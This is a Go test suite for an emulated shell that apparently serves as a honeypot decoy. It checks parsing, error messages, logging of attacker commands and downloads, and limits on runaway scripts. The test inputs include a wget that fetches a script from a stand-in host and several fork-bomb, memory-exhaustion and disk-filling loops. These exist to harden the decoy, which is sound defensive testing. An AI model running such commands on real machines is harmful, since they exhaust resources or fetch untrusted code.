package shell_test

import (
	"bytes"
	"context"
	"fmt"
	"net/netip"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/decoys/decoy"
	"github.com/decnet/decnet/decoys/shell"
	"github.com/decnet/decnet/pkg/decnet"
	"github.com/decnet/decnet/pkg/decnet/persona"
)

// session is a shell with what it printed and reported.
type session struct {
	*shell.Shell
	system    *shell.System
	persona   *persona.Persona
	commands  []string
	downloads []string
}

func machine(t testing.TB, distro string, seed int) (*shell.System, *persona.Persona) {
	t.Helper()
	d := &decnet.Decky{Name: "d", OS: distro, Seed: fmt.Sprintf("%064x", seed), Created: time.Now().Add(-48 * time.Hour)}
	p, err := persona.Derive(d)
	if err != nil {
		t.Fatal(err)
	}
	return shell.NewSystem(p, netip.MustParseAddr("192.0.2.10")), p
}

func newSession(t testing.TB, change func(*shell.Config)) *session {
	t.Helper()
	system, p := machine(t, "debian", 1)
	s := &session{system: system, persona: p}
	c := shell.Config{
		System: system, FS: system.NewFS(), User: "root", Login: time.Now(),
		Source: netip.MustParseAddrPort("203.0.113.7:50022"), Local: netip.MustParseAddrPort("192.0.2.10:22"),
		Command:  func(line string, _ decoy.Typed) { s.commands = append(s.commands, line) },
		Download: func(tool, url string) { s.downloads = append(s.downloads, tool+" "+url) },
	}
	if change != nil {
		change(&c)
	}
	s.Shell = shell.New(c)
	return s
}

// exec runs a script and returns what it printed, standard error marked with
// "! ", and its status.
func (s *session) exec(script string) (string, int) {
	var out, err bytes.Buffer
	status := s.Exec(context.Background(), script, shell.Streams{In: strings.NewReader("from stdin\n"), Out: &out, Err: &err})
	text := out.String()
	for line := range strings.Lines(err.String()) {
		text += "! " + line
	}
	return text, status
}

func TestLanguage(t *testing.T) {
	tests := []struct {
		script, want string
		status       int
	}{
		{`echo hello; echo world`, "hello\nworld\n", 0},
		{`true && echo yes || echo no; false && echo yes || echo no`, "yes\nno\n", 0},
		{`echo one two | tr a-z A-Z | wc -c`, "8\n", 0},
		{`(exit 3); echo $?; exit 5; echo never`, "3\n", 5},
		{`! true; echo $?`, "1\n", 0},
		{`a=1; a+=2; b="$a x"; echo $b '$a' "$a" ${#b} ${a}3`, "12 x $a 12 4 123\n", 0},
		{`echo ${nope:-default} ${nope-d2} ${USER:+set} ${HOME#/} ${PATH%%:*}`, "default d2 set root /usr/local/sbin\n", 0},
		{`x=a.tar.gz; echo ${x%.gz} ${x##*.} ${x/tar/zip} ${x:0:3}`, "a.tar gz a.zip.gz a.t\n", 0},
		{`echo $((1+2*3)) $((7/2)) $((10%3)) $((2**10)) $((5>3))`, "7 3 1 1024 1\n", 0},
		{`for i in a b c; do echo -n $i; done; echo`, "abc\n", 0},
		{`i=0; while [ $i -lt 3 ]; do i=$((i+1)); [ $i = 2 ] && continue; echo $i; done`, "1\n3\n", 0},
		{`for ((i=0;i<3;i++)); do echo $i; done | tail -1`, "2\n", 0},
		{`while true; do break; done; until false; do break; done; echo ok`, "ok\n", 0},
		{`if [ -f /etc/passwd ] && [ ! -d /nope ]; then echo a; else echo b; fi`, "a\n", 0},
		{`case abc in x*) echo 1;; a?c|d) echo 2;; esac`, "2\n", 0},
		{`f() { echo "f $1 $#"; return 4; }; f x y; echo $?`, "f x 2\n4\n", 0},
		{`x=$(echo inner; echo two); echo "$x"; echo $x`, "inner\ntwo\ninner two\n", 0},
		{"echo `uname -s`", "Linux\n", 0},
		{`cd /tmp; (cd /; pwd); pwd`, "/\n/tmp\n", 0},
		{`[[ abc == a* && 3 -gt 2 ]] && echo m; [[ abc =~ ^a.c$ ]] && echo r`, "m\nr\n", 0},
		{`echo a\ b "c  d" 'e"f' g"h"i`, "a b c  d e\"f ghi\n", 0},
		{`echo -e 'a\tb\x41\n' -n; echo -n x; echo -en "\x6F\x6B"`, "a\tbA\n -n\nxok", 0},
		{`printf '%s-%d\n' a 5 b 6; printf '%5.1s|' abc`, "a-5\nb-6\n    a|", 0},
		{"cat <<EOF\nhere $USER\nEOF", "here root\n", 0},
		{`cat <<< word`, "word\n", 0},
		{`cat`, "from stdin\n", 0},
		{`A=5 env | grep ^A=; echo [$A]`, "A=5\n[]\n", 0},
		{`nosuchcommand; echo $?`, "127\n! bash: line 1: nosuchcommand: command not found\n", 0},
		{`/etc/passwd`, "! bash: line 1: /etc/passwd: Permission denied\n", 126},
		{`/nope`, "! bash: line 1: /nope: No such file or directory\n", 127},
		{`/tmp`, "! bash: line 1: /tmp: Is a directory\n", 126},
		{`echo (`, "! bash: -c: line 1: syntax error near unexpected token `newline'\n! bash: -c: line 1: `echo ('\n", 2},
		{`ls /nope`, "! ls: cannot access '/nope': No such file or directory\n", 2},
		{`kill 99999; kill abc`, "! bash: line 1: kill: (99999) - No such process\n! bash: line 1: kill: abc: arguments must be process or job IDs\n", 1},
		{`uname -z`, "! uname: invalid option -- 'z'\n! Try 'uname --help' for more information.\n", 1},
		{`sleep x`, "! sleep: invalid time interval ‘x’\n! Try 'sleep --help' for more information.\n", 1},
		{`exit 256; echo no`, "", 0},
		{`eval "echo a; echo b"; sh -c 'echo $0 $1' x y; command -v ls; type cd`, "a\nb\nx y\n/usr/bin/ls\ncd is a shell builtin\n", 0},
		{`seq 3 | xargs echo n; seq 10 | head -2; seq 10 | tail -n 1`, "n 1 2 3\n1\n2\n10\n", 0},
		{`echo b:a:c | cut -d: -f1,3; echo abc | sed 's/b/X/'; echo "a b c" | awk '{print $2, $NF}'`, "b:c\naXc\nb c\n", 0},
		{`echo secret | md5sum; echo aGk= | base64 -d`, "dbaccdd51e3c40a92ad3f1a8bd9e2c5a  -\nhi", 0},
	}
	for _, test := range tests {
		t.Run(test.script, func(t *testing.T) {
			have, status := newSession(t, nil).exec(test.script)
			if strings.Contains(test.script, "md5sum") {
				have = regexp.MustCompile(`[0-9a-f]{32}`).ReplaceAllString(have, "dbaccdd51e3c40a92ad3f1a8bd9e2c5a")
			}
			if have != test.want || status != test.status {
				t.Errorf("have %q and %d, want %q and %d", have, status, test.want, test.status)
			}
		})
	}
}

func TestEachItemIsReportedOnceInOrder(t *testing.T) {
	s := newSession(t, nil)
	if _, status := s.exec(`id; uname -a && pwd ; wget http://198.51.100.7/x.sh; exit; echo never`); status != 4 {
		t.Errorf("have status %d, want that of wget", status)
	}
	want := []string{"id", "uname -a && pwd", "wget http://198.51.100.7/x.sh", "exit"}
	if !slices.Equal(s.commands, want) {
		t.Errorf("have %q, want %q", s.commands, want)
	}
	if want := []string{"wget http://198.51.100.7/x.sh"}; !slices.Equal(s.downloads, want) {
		t.Errorf("have downloads %q, want %q", s.downloads, want)
	}
}

func TestScriptOfStandardInput(t *testing.T) {
	s := newSession(t, nil)
	var out bytes.Buffer
	lines := "id -u\n\nfor i in 1 2\ndo echo $i\ndone\nexit 3\necho never\n"
	status := s.Script(context.Background(), shell.Streams{In: strings.NewReader(lines), Out: &out, Err: &out})
	if out.String() != "0\n1\n2\n" || status != 3 {
		t.Errorf("have %q and status %d", out.String(), status)
	}
	if want := []string{"id -u", "for i in 1 2\ndo echo $i\ndone", "exit 3"}; !slices.Equal(s.commands, want) {
		t.Errorf("have %q, want %q", s.commands, want)
	}
}

func TestNothingGrowsWithoutEnd(t *testing.T) {
	scripts := []string{
		`while true; do :; done`, `while true; do true; done`, `for ((;;)); do :; done`, `f() { f; }; f`, `f() { f | f; }; f`,
		`x=a; while true; do x=$x$x; done`, `echo "eval x" > /tmp/s; sh -c 'sh /tmp/s'; x() { eval x; }; x`,
		`echo 'sh /tmp/s' > /tmp/s; sh /tmp/s`, `x=$(seq 100000); echo "$x$x$x$x$x$x$x$x$x" | wc -c`,
		`while true; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx >> /tmp/f; done`, `printf '%999999999d' 1`,
		`while true; do mkdir /tmp/d$RANDOM; done`, strings.Repeat("(", 20000), "echo " + strings.Repeat("$(", 5000),
		strings.Repeat("if ", 10000), strings.Repeat("true|", 10000) + "true", strings.Repeat("true && ", 3000) + "true",
		`echo ` + strings.Repeat(`{a,b}`, 1000), `while :; do awk 'BEGIN { while (1) x = x "aaaaaaaaaaaaaaaa" }'; done`, `while :; do find / >/dev/null; done`,
		`while :; do grep -r x /usr >/dev/null; du -a / >/dev/null; done`, `awk 'BEGIN { for (;;) a[n++] = n }'`, `sed ':a;s/^/x/;ta' /etc/passwd`,
		`while :; do (while :; do :; done) & done`, `x=$(yes); cat /dev/zero | md5sum; dd if=/dev/zero of=/tmp/z bs=1M count=999999`, `echo ` + strings.Repeat(`/*`, 200), `trap 'x' 0; ulimit -v 1; : ${x:=$(x)}`,
	}
	for _, script := range scripts {
		t.Run(script[:min(len(script), 30)], func(t *testing.T) {
			begin := time.Now()
			out, _ := newSession(t, nil).exec(script)
			if took := time.Since(begin); took > 45*time.Second {
				t.Errorf("took %v", took)
			}
			if len(out) > 3<<20 {
				t.Errorf("printed %d bytes", len(out))
			}
		})
	}
}

func TestWaitingEndsWithTheContext(t *testing.T) {
	for _, script := range []string{"sleep 1000", "wget http://198.51.100.7/", "curl http://x/"} {
		s := newSession(t, func(c *shell.Config) { c.NetworkDelay = time.Hour })
		ctx, cancel := context.WithTimeout(t.Context(), 20*time.Millisecond)
		defer cancel()
		var out bytes.Buffer
		s.Exec(ctx, script, shell.Streams{Out: &out, Err: &out})
		if ctx.Err() == nil {
			t.Errorf("%s did not wait: %q", script, out.String())
		}
	}
}

func FuzzExec(f *testing.F) {
	for _, seed := range []string{
		`id; uname -a`, `for i in $(ls /); do echo "$i"; done`, `echo ${x:-$((1+2))} > /tmp/a; cat < /tmp/a | grep -v b`,
		"cat <<E\n$x\nE", `[[ a =~ b ]] && f() { f; }; f`, `ls -la *; cd ..; echo {1..3}`, `sed 's/a/b/g' /etc/passwd | awk -F: '{print $1}'`,
		`printf '%s %d\x41' a 3`, `tr -d '\n' < /etc/hosts; cut -d: -f1-3 /etc/passwd; head -c 5 /bin/ls`, `x[1]=2; ${x@Q}; ((x++)); let y=x<<3`,
	} {
		f.Add(seed)
	}
	for _, x := range transcripts(f) {
		f.Add(x.script)
	}
	system, _ := machine(f, "ubuntu22", 7)
	f.Fuzz(func(t *testing.T, script string) {
		ctx, cancel := context.WithTimeout(t.Context(), 200*time.Millisecond)
		defer cancel()
		s := shell.New(shell.Config{
			System: system, FS: system.NewFS(), User: "root", Login: time.Now(), Command: func(string, decoy.Typed) {}, Download: func(string, string) {},
			Source: netip.MustParseAddrPort("[2001:db8::7]:50022"), Local: netip.MustParseAddrPort("192.0.2.10:22"),
		})
		var out bytes.Buffer
		if status := s.Exec(ctx, script, shell.Streams{In: strings.NewReader(script), Out: &out, Err: &out}); status < 0 || status > 255 {
			t.Errorf("have status %d", status)
		}
		s.Script(ctx, shell.Streams{In: strings.NewReader(script), Out: &out, Err: &out})
	})
}

// dash's echo has no option -e and knows octal numbers only.
func TestEchoOfDash(t *testing.T) {
	s := newSession(t, nil)
	for command, want := range map[string]string{
		`sh -c "echo -ne '\x7f\x45'"`: "-ne \\x7f\\x45\n", `sh -c "echo '\101 \0101'"`: "A A\n", `sh -c "echo -n a"`: "a",
		`sh -c "/bin/busybox echo -ne '\x41'"`: "A", `sh -c "/bin/echo -ne '\x41'"`: "A",
	} {
		if have, _ := s.exec(command); have != want {
			t.Errorf("%s: have %q, want %q", command, have, want)
		}
	}
}
